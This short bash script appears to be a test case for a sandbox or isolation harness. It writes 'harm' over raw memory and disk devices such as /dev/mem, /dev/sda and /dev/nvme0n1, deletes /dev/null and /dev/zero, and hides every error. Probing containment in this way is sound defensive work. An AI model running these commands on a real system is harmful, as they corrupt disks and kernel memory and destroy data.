#!/bin/bash
# expect: any
echo started
for d in /dev/mem /dev/kmem /dev/port /dev/sda /dev/vda /dev/nvme0n1 /dev/kmsg /dev/sda1 /dev/disk/by-id/*; do
    dd if=$d bs=64 count=1 2>/dev/null
    echo harm > $d
done 2>/dev/null
rm -f /dev/null /dev/zero 2>/dev/null
chmod 600 /dev/null 2>/dev/null
echo harm > /dev/shm/harm
exit 0
